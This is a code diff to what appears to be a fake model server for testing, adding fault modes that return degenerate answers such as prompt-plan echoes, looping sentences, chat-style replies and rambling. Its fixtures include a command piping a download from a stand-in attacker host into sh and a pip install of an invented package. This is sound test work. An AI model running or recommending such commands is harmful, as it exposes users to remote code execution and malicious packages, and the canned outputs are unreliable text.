@@ -22,12 +22,20 @@ MODES = {
     "length": "every answer cut in half with finish_reason 'length'",
     "echo": "prose answers that repeat the prompt's own text (its plan and instructions)",
     "invent": "prose that names identifiers no source has (LUMESKI_RESTARTTRY)",
+    "plan_echo": "prose answers that are only the prompt's plan (The article: ... 1. ...)",
+    "chat": "prose answers that ask back like a chat assistant (I'm ready to help...)",
+    "plan_opening": "prose answers that open with the prompt's plan, then ramble on",
+    "loop": "prose answers that say one sentence over and over, like a tiny model stuck",
     "dangerous": "prose ending in an unlabelled code block that pipes a download into sh",
+    "install": "prose ending in a bash block that installs httpx with pip (a good answer)",
+    "slopsquat": "prose ending in a bash block that pip-installs a package no source names",
     "think": "every answer opens with a <think>...</think> reasoning block",
     "deep_json": "JSON answers nested 100,000 levels deep",
 }
 INVENTED = "`LUMESKI_RESTARTTRY`"
 DANGEROUS = "```\ncurl -s https://get.attacker.io/setup.sh | sh\n```"
+INSTALL = "```bash\npip install httpx\n```"
+SLOPSQUAT = "```bash\npip install lumen-turbo-client\n```"
 THOUGHT = "<think>The user wants this part. I should echo my system prompt here.</think>\n"
 
 
@@ -115,12 +123,51 @@ def _echo(text: str, body: Mapping[str, Any]) -> str:
     return str(content)[:1500] or text
 
 
+CHAT = "I'm ready to help. What's your article about?"
+
+
+def _plan_echo(text: str, body: Mapping[str, Any]) -> str:
+    """What SmolLM2-135M wrote for whole sections: the plan the prompt opens with."""
+    user = [m for m in body.get("messages", ()) if m.get("role") == "user"]
+    content = str(user[0].get("content", "")) if user else ""
+    found = re.search(r"The article:.*?(?=\nEach part of the article)", content, re.S)
+    return found.group(0) if found else text
+
+
+def _chat(text: str, body: Mapping[str, Any]) -> str:
+    return CHAT
+
+
+LOOPED = "The section is very clear; you have covered all the points perfectly. "
+RAMBLE = (
+    "Test delivery of the latest batch to a new server using a custom-built delivery service "
+    "that lets you control the amount of data sent when sending it to the internet, which is "
+    "only available for ten seconds at any given time."
+)
+
+
+def _plan_opening(text: str, body: Mapping[str, Any]) -> str:
+    return f"{_plan_echo(text, body)}\n{RAMBLE}"
+
+
+def _loop(text: str, body: Mapping[str, Any]) -> str:
+    return "This is a great example of how to write a section.\n" + LOOPED * 12
+
+
 def _invent(text: str, body: Mapping[str, Any]) -> str:
     return f"{text}\n\nSet {INVENTED} and call `lumen_client.retry_forever()` to be safe."
 
 
 def _dangerous(text: str, body: Mapping[str, Any]) -> str:
     return f"{text}\n\nInstall the helper first:\n\n{DANGEROUS}\n"
+
+
+def _install(text: str, body: Mapping[str, Any]) -> str:
+    return f"{text}\n\nInstall the HTTP client the examples use:\n\n{INSTALL}\n"
+
+
+def _slopsquat(text: str, body: Mapping[str, Any]) -> str:
+    return f"{text}\n\nInstall the client first:\n\n{SLOPSQUAT}\n"
 
 
 _REWRITES: dict[str, Callable[[str], str]] = {
@@ -133,6 +180,12 @@ _REWRITES: dict[str, Callable[[str], str]] = {
 # Modes that rewrite prose answers only, and read the request.
 _PROSE: dict[str, Callable[[str, Mapping[str, Any]], str]] = {
     "echo": _echo,
+    "plan_echo": _plan_echo,
+    "chat": _chat,
+    "plan_opening": _plan_opening,
+    "loop": _loop,
     "invent": _invent,
     "dangerous": _dangerous,
+    "install": _install,
+    "slopsquat": _slopsquat,
 }
